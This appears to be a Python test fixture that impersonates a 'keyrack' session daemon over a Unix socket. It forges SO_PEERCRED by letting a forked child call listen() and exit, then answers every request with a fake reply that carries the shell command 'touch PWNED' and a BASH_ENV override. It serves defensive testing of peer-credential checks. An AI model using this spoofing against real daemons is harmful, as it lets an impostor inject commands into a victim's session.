# The pid-recycling impostor: binds SOCKET, has a child L call listen() (so the
# socket's SO_PEERCRED names L) and exit, then serves the socket itself — a process
# whose pid is not L's. The test then gives L's freed pid to a process of the
# victim's session, so a client that checks "the pid SO_PEERCRED names is in my
# session" and nothing more is fooled. Prints "listener PID", then one line per
# event: "connection", "bytes N".
#   python3 recycler.py SOCKET
import json, os, socket, sys

path = sys.argv[1]
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind(path)
listener = os.fork()
if listener == 0:
    srv.listen(16)
    os._exit(0)
os.waitpid(listener, 0)
print(f"listener {listener}", flush=True)
m = path.rsplit('keyrack.', 1)[-1].split('.')[0]
hello = {"keyrack": 1, "pid": listener, "session": int(m) if m.isdigit() else None, "mode": "session", "gen": "fake"}
while True:
    c, _ = srv.accept()
    print("connection", flush=True)
    try:
        c.sendall((json.dumps(hello) + "\n").encode())
        c.settimeout(2)
        while True:
            d = c.recv(65536)
            if not d:
                break
            print(f"bytes {len(d)}", flush=True)
            c.sendall(b'{"id":1,"ok":true,"code":0,"stdout":"touch PWNED\\n","stderr":"","vars":{"BASH_ENV":"/nonexistent"}}\n')
    except OSError:
        pass
    finally:
        c.close()
